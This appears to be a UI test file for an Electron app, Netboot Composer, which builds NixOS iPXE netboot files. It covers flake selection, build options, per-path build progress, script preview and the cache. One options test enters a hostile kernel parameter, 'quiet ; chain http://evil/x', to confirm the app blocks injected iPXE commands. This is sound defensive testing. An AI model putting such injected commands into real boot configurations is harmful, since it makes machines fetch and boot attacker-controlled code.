/**
 * The steps as a user meets them, rendered in jsdom with Testing Library on
 * a real store; only window.netbootComposer is a fake (fake-api.ts).
 */
import { act, cleanup, render, screen, within } from '@testing-library/react';
import { userEvent } from '@testing-library/user-event';
import { afterEach, describe, expect, it } from 'vitest';
import { App } from '../../renderer/components/App.tsx';
import { StoreContext } from '../../renderer/context.tsx';
import { connectJobEvents, createAppStore, type AppStore } from '../../renderer/store/index.ts';
import type { BuildOutcome, JobEvent } from '../../electron/shared/ipc.ts';
import type { BuildEvent } from '../../electron/shared/types.ts';
import { fakeApi, ok, OUTCOME, SUMMARY, type Answers, type FakeApi } from './fake-api.ts';

afterEach(cleanup);

const P = (name: string): string => `/nix/store/${'a'.repeat(32)}-${name}`;
const PATHS = [
  { path: P('glibc-2.40'), narSize: 30_000_000 },
  { path: P('bash-5.2'), narSize: 2_000_000 },
  { path: P('hello-2.12'), narSize: 100_000 },
];

async function mount(
  answers: Answers = {},
): Promise<{ store: AppStore; fake: FakeApi; user: ReturnType<typeof userEvent.setup> }> {
  const fake = fakeApi(answers);
  const store = createAppStore(fake.api, { publishEveryMs: 0 });
  connectJobEvents(fake.api, store);
  await store.getState().init();
  render(
    <StoreContext.Provider value={store}>
      <App />
    </StoreContext.Provider>,
  );
  return { store, fake, user: userEvent.setup() };
}

/** Wait for the store's throttled progress to reach React. */
const flush = () => act(() => new Promise((r) => setTimeout(r, 5)));

describe('System step', () => {
  it('lists a flake’s configurations with their architectures, and shows the resolved system', async () => {
    const { user, fake } = await mount({
      'dialog:choose-folder': () => ok('/home/me/homelab'),
      'flake:list': () =>
        ok([
          { name: 'router', system: 'x86_64-linux' },
          { name: 'pi', system: 'aarch64-linux' },
        ]),
      'system:resolve': () => ok({ ...SUMMARY, source: { kind: 'flake', ref: '/home/me/homelab', name: 'pi' } }),
    });
    await user.click(screen.getByRole('button', { name: 'Choose flake folder…' }));
    const list = await screen.findByRole('list', { name: 'Configurations' });
    expect(
      within(list)
        .getAllByRole('button')
        .map((b) => b.textContent),
    ).toEqual(['routerx86_64-linux', 'piaarch64-linux']);
    await user.click(within(list).getByRole('button', { name: /pi/ }));
    expect(fake.calls.find((c) => c.channel === 'system:resolve')?.request).toMatchObject({
      source: { kind: 'flake', ref: '/home/me/homelab', name: 'pi' },
    });
    const card = await screen.findByRole('article', { name: 'Chosen system' });
    expect(card.textContent).toContain('nixos-system-demo-25.11');
    expect(card.textContent).toContain('30 MiB');
  });

  it('shows an error as one sentence, with the details behind a disclosure', async () => {
    const { user } = await mount({
      'system:resolve': () => ({
        ok: false,
        error: { kind: 'user', message: '/tmp/x is not a NixOS system: it has no init.', details: '$ ls /tmp/x' },
      }),
    });
    await user.type(screen.getByLabelText('Store path of a built system'), '/tmp/x');
    await user.click(screen.getByRole('button', { name: 'Use' }));
    const alert = await screen.findByRole('alert');
    expect(alert.textContent).toContain('/tmp/x is not a NixOS system: it has no init.');
    expect(within(alert).getByText('Details')).toBeTruthy();
  });
});

async function resolvedDemo(answers: Answers = {}) {
  const mounted = await mount({ 'system:resolve': () => ok(SUMMARY), ...answers });
  await mounted.user.click(screen.getByRole('button', { name: 'Use the demo system' }));
  await mounted.user.click(await screen.findByRole('button', { name: 'Continue to options →' }));
  return mounted;
}

describe('Options step', () => {
  it('keeps Build disabled, saying why, when the target architecture is not the system’s', async () => {
    const { user } = await resolvedDemo();
    const build = screen.getByRole('button', { name: 'Build boot files' });
    expect((build as HTMLButtonElement).disabled).toBe(false);
    await user.click(screen.getByRole('radio', { name: 'aarch64-linux' }));
    expect((build as HTMLButtonElement).disabled).toBe(true);
    expect(screen.getByText(/is built for x86_64-linux, not aarch64-linux/)).toBeTruthy();
  });

  it('keeps Build disabled, saying why in one sentence, for kernel parameters that would add an iPXE command', async () => {
    const { user } = await resolvedDemo();
    const build = screen.getByRole('button', { name: 'Build boot files' }) as HTMLButtonElement;
    const params = screen.getByLabelText('Extra kernel parameters');
    await user.type(params, 'quiet ; chain http://evil/x');
    expect(build.disabled).toBe(true);
    expect(screen.getByText(/^";" on its own cannot be a kernel parameter: iPXE would read it/).id).toBe(
      'build-blocker',
    );
    await user.clear(params);
    // Metacharacters inside a word are a kernel parameter like any other.
    await user.type(params, 'nbc.x=a;b&&c$d(e)|f');
    expect(build.disabled).toBe(false);
  });

  it('estimates the RAM and download from the closure and the compressor', async () => {
    const { user } = await resolvedDemo();
    const needs = screen.getByRole('complementary', { name: 'What the image needs' });
    const zstd = needs.textContent;
    await user.selectOptions(screen.getByLabelText('Squashfs compressor'), 'lz4');
    expect(needs.textContent).not.toBe(zstd);
    expect(screen.getAllByLabelText(/Level \(this compressor takes none\)/)).toHaveLength(2);
  });
});

describe('Build step', () => {
  it('shows each path’s state as events arrive, sorts and filters the table, and counts reused paths', async () => {
    let finish!: (outcome: BuildOutcome) => void;
    const { user, fake, store } = await resolvedDemo({
      'build:start': () => new Promise((resolve) => (finish = (outcome) => resolve(ok(outcome)))),
    });
    await user.click(screen.getByRole('button', { name: 'Build boot files' }));
    const jobId = store.getState().buildJob!;
    const send = (event: BuildEvent): void => fake.emit({ jobId, event } satisfies JobEvent);
    act(() => {
      send({ event: 'closure', paths: PATHS, totalBytes: 32_100_000 });
      send({
        event: 'path-done',
        path: PATHS[2]!.path,
        status: 'reused',
        narSize: 100_000,
        packedBytes: 40_000,
        seconds: 0,
      });
      send({ event: 'path-start', path: PATHS[0]!.path });
      send({ event: 'path-progress', path: PATHS[0]!.path, percent: 40 });
    });
    await flush();
    const table = screen.getByRole('table', { name: 'Store paths' });
    const states = () =>
      within(table)
        .getAllByRole('row')
        .slice(1)
        .map((row) => `${row.querySelector('td.name')!.textContent}:${row.dataset.state}`);
    // Sorted by state first: the active row on top, easy to spot.
    expect(states()).toEqual(['glibc-2.40:packing', 'bash-5.2:queued', 'hello-2.12:reused']);
    expect(within(table).getByText('packing 40%')).toBeTruthy();
    expect(screen.getByTestId('reused').textContent).toBe('1 of 3 reused');
    expect(document.title).toMatch(/^\d+% · .* · Netboot Composer$/);

    await user.click(within(table).getByRole('button', { name: /Size/ }));
    expect(states()).toEqual(['glibc-2.40:packing', 'bash-5.2:queued', 'hello-2.12:reused']);
    await user.click(within(table).getByRole('button', { name: /Size/ }));
    expect(states()).toEqual(['hello-2.12:reused', 'bash-5.2:queued', 'glibc-2.40:packing']);
    await user.type(screen.getByRole('searchbox', { name: 'Filter store paths' }), 'ba');
    expect(states()).toEqual(['bash-5.2:queued']);
    await user.clear(screen.getByRole('searchbox', { name: 'Filter store paths' }));
    await user.click(screen.getByRole('radio', { name: /active/i }));
    expect(states()).toEqual(['glibc-2.40:packing']);

    // Cancel asks main to stop this job.
    await user.click(screen.getByRole('button', { name: 'Cancel' }));
    expect(fake.calls.filter((c) => c.channel === 'job:cancel').map((c) => c.request)).toEqual([{ jobId }]);
    finish({
      outDir: '/out',
      files: [{ name: 'netboot.ipxe', bytes: 400 }],
      paths: 3,
      packed: 2,
      reused: 1,
      seconds: 1,
      ramBytes: 1,
      downloadBytes: 1,
      script: '#!ipxe\n',
    });
    await screen.findByRole('heading', { name: 'Boot files ready' });
  });
});

describe('Result step', () => {
  it('previews netboot.ipxe, follows kernel-parameter edits, and copies the script', async () => {
    const { user, fake, store } = await resolvedDemo({
      'build:start': async () => {
        const { previewScript } = await import('../../renderer/store/index.ts');
        return ok({ ...OUTCOME, script: previewScript(SUMMARY, store.getState().options) });
      },
      'clipboard:write': () => ok(null),
    });
    await user.click(screen.getByRole('button', { name: 'Build boot files' }));
    await screen.findByRole('heading', { name: 'Boot files ready' });
    const preview = screen.getByLabelText('netboot.ipxe');
    expect(preview.textContent).toContain('initrd=nix-store console=ttyS0,115200 panic=1 ${cmdline}');
    expect(preview.querySelector('.tok-command')?.textContent).toBe('kernel');

    await user.click(screen.getByRole('button', { name: 'Copy' }));
    expect(fake.calls.find((c) => c.channel === 'clipboard:write')?.request).toEqual({ text: preview.textContent });

    await user.type(screen.getByLabelText('Extra kernel parameters'), 'ip=dhcp');
    expect(preview.textContent).toContain('panic=1 ip=dhcp ${cmdline}');
    expect(screen.getByRole('button', { name: 'Rebuild (nothing to repack)' })).toBeTruthy();
    expect((screen.getByRole('button', { name: /^Cop/ }) as HTMLButtonElement).disabled).toBe(true);
  });
});

describe('the bridge', () => {
  it('stops delivering job events once unsubscribed', async () => {
    const fake = fakeApi();
    const store = createAppStore(fake.api);
    const stop = connectJobEvents(fake.api, store);
    expect(fake.listeners()).toBe(1);
    stop();
    expect(fake.listeners()).toBe(0);
  });
});

describe('Build step with a closure of thousands of paths', () => {
  it('renders only the rows in view, and the rows further down once scrolled to', async () => {
    const { user, fake, store } = await resolvedDemo({ 'build:start': () => new Promise(() => undefined) });
    await user.click(screen.getByRole('button', { name: 'Build boot files' }));
    const many = Array.from({ length: 3000 }, (_, i) => ({
      path: `/nix/store/${'b'.repeat(32)}-pkg-${String(i).padStart(4, '0')}`,
      narSize: 3_000_000 - i,
    }));
    act(() =>
      fake.emit({ jobId: store.getState().buildJob!, event: { event: 'closure', paths: many, totalBytes: 1e9 } }),
    );
    await flush();
    const table = screen.getByRole('table', { name: 'Store paths' });
    const names = () => [...table.querySelectorAll('td.name')].map((td) => td.textContent);
    expect(names().length).toBeLessThan(100);
    expect(names()[0]).toBe('pkg-0000');
    expect(table.getAttribute('aria-rowcount')).toBe('3001');
    const scroller = table.closest('.table-scroll')!;
    scroller.scrollTop = 32 * 2000;
    act(() => {
      scroller.dispatchEvent(new Event('scroll'));
    });
    expect(names()).toContain('pkg-2000');
    expect(names()).not.toContain('pkg-0000');
  });
});

describe('the cache chip', () => {
  it('shows the cache against its limit and the last build’s reuse, and empties it on request', async () => {
    let bytes = 3 * 1024 ** 3;
    const { user, fake } = await mount({
      'cache:stats': () =>
        ok({ dir: '/c', bytes, entries: 400, limitBytes: 5 * 1024 ** 3, lastBuild: { hits: 412, misses: 3, at: '' } }),
      'cache:prune': ({ maxBytes }) => {
        bytes = maxBytes ?? bytes;
        return ok({ dir: '/c', bytes, entries: 0, limitBytes: 5 * 1024 ** 3 });
      },
    });
    await user.click(screen.getByText(/^Cache 3\.0 GiB/));
    expect(screen.getByRole('group', { name: 'Cache' }).textContent).toContain('reused 412 of 415 paths (99%)');
    await user.click(screen.getByRole('button', { name: 'Empty the cache' }));
    expect(fake.calls.filter((c) => c.channel === 'cache:prune').map((c) => c.request)).toEqual([{ maxBytes: 0 }]);
    expect(await screen.findByText(/^Cache 0 B/)).toBeTruthy();
    await user.clear(screen.getByLabelText('Limit'));
    await user.type(screen.getByLabelText('Limit'), '2');
    await user.click(screen.getByRole('button', { name: 'Set' }));
    expect(fake.calls.filter((c) => c.channel === 'settings:set').map((c) => c.request)).toEqual([
      { cacheLimitBytes: 2 * 1024 ** 3 },
    ]);
  });
});
